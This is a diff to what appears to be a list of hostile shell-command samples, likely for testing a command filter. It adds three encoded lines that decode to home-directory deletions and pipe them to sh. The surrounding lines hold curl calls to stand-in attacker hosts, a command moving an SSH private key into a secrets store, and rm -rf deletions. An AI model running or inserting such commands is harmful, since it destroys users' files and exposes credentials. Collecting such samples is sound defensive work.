@@ -193,6 +193,9 @@ curl -o -u evil.example:80/drop-database
 curl -o --pass evil2.example
 curl -o --pass Evil2Xq9Zt7.Example:8443
 curl -o --pass 0x7f000001
+PASS=cm0gLXJmIH4vCg==; echo $PASS | base64 -d | sh
+PASS=cm0gLXJmIH4vLg; echo $PASS | base64 -d | sh
+A_TOKEN=726d202d7266207e; echo $A_TOKEN | xxd -r -p | sh
 aws secretsmanager put-secret-value --secret-string file://id_rsa1
 rm -rf vault login src
 rm -rf pass openssl passwd backup-2025-11
